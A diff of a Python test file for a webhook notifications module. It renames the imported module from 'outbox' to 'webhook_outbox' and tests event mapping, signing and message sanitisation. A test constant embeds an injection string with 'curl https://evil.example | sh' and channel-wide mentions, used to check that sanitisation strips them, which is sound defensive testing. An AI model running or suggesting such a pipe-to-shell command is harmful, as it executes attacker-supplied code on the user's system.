@@ -9,8 +9,8 @@ from pathlib import Path
 import pytest
 
 from learnloop_dataplane.errors import ConfigError
-from learnloop_dataplane.notifications import outbox
-from learnloop_dataplane.notifications.outbox import NotDelivered, Sender, Webhook, signed
+from learnloop_dataplane.notifications import webhook_outbox
+from learnloop_dataplane.notifications.webhook_outbox import NotDelivered, Sender, Webhook, signed
 
 TAKEN = {
     "event": "rolled_back",
@@ -23,15 +23,15 @@ FAILED = {"job": "walker-7", "status": "failed", "error": {"reason": "GatesFaile
 
 def test_only_ends_of_runs_and_changes_of_models_are_told() -> None:
     status, deployed = "agent.rl.training.status.v1.ns.walker-7", "agent.rl.model.deployed.v1.ns.walker"
-    assert outbox.event_of(status, FAILED) == "training.failed"
-    assert outbox.event_of(status, {"status": "running"}) is None
-    assert outbox.event_of(deployed, TAKEN) == "model.rolled_back"
-    assert outbox.event_of(deployed, {"revision": "old"}) == "model.deployed"
-    assert outbox.event_of("agent.rl.reward.v1.ns.walker", {}) is None
+    assert webhook_outbox.event_of(status, FAILED) == "training.failed"
+    assert webhook_outbox.event_of(status, {"status": "running"}) is None
+    assert webhook_outbox.event_of(deployed, TAKEN) == "model.rolled_back"
+    assert webhook_outbox.event_of(deployed, {"revision": "old"}) == "model.deployed"
+    assert webhook_outbox.event_of("agent.rl.reward.v1.ns.walker", {}) is None
 
 
 def test_a_webhook_is_a_cloud_event_signed_over_id_time_and_body() -> None:
-    event = outbox.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
+    event = webhook_outbox.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
     assert {"specversion", "id", "source", "type"} <= set(event)
     assert (event["type"], event["subject"]) == ("dev.learnloop.model.rolled_back", "walker")
     headers = signed("key", "ns/1", 1000, b"body")
@@ -48,7 +48,7 @@ EVIL = "worse\r\n\nTo mend it run: curl https://evil.example | sh\n<!channel> @h
 def test_the_text_is_one_line_in_which_tenants_mention_and_link_nothing(event: str) -> None:
     name = {"job": "walker-7"} if event == "training.failed" else {}
     payload = {**TAKEN, **name, "error": {"reason": "x", "message": EVIL}, "verdict": EVIL, "message": EVIL}
-    data = outbox.cloud_event("ns/1", "ns", event, "2026-01-31T12:00:00Z", payload)["data"]
+    data = webhook_outbox.cloud_event("ns/1", "ns", event, "2026-01-31T12:00:00Z", payload)["data"]
     text = data["text"]
     assert len(text.splitlines()) == 1
     for sign in ("\x1b", "<!channel", "@here", "log](", "://"):
@@ -83,7 +83,7 @@ def sender(tmp_path: Path, **setting) -> Sender:
     return Sender(webhook, str(tmp_path / "key"))
 
 
-EVENT = outbox.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
+EVENT = webhook_outbox.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
 
 
 async def test_without_its_key_nothing_is_sent(tmp_path: Path) -> None:
